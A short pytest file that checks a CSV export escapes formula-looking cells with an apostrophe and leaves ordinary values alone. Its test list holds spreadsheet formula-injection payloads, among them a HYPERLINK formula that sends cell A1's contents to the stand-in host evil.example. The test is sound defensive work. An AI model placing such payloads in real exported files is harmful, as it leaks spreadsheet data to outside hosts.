"""Names that look like formulas never run in the office's Excel: CSV cells get an apostrophe."""
from __future__ import annotations

import pytest

from program.cells import csv_cell, csv_row, looks_like_formula

ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


@pytest.mark.parametrize("attack", ATTACKS)
def test_formula_looking_text_is_written_as_text(attack):
    assert looks_like_formula(attack)
    assert csv_cell(attack) == "'" + attack


def test_ordinary_values_are_left_alone():
    assert csv_row(["王小明", "山西大学附属中学", 3, None, "a=b", "https://t.me/x?start=-abc"]) == [
        "王小明", "山西大学附属中学", "3", "", "a=b", "https://t.me/x?start=-abc"]
    assert not looks_like_formula(-3)  # a number is a number, not text that could become a formula
